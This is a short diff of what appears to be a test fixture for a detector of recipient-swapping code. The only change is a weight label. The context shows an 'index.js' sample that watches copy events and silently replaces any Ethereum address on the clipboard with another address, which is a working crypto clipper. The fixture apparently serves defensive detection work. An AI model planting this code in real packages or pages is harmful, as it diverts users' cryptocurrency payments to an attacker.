@@ -27,7 +27,7 @@ examine(replacesRecipients, {
       files: {
         'index.js': `const fit = ours => look => async () => { const text = await navigator.clipboard.readText(); if (look.test(text)) await navigator.clipboard.writeText(text.replace(look, ours)); }; const swap = fit('${ETHEREUM}')(/0x[0-9a-fA-F]{40}/); document.addEventListener('copy', () => setTimeout(swap, 0));`,
       },
-      weight: 'strong',
+      weight: 'proof',
     },
     {
       when: 'a proxy of whatever signs hands on what it is given, with another recipient',
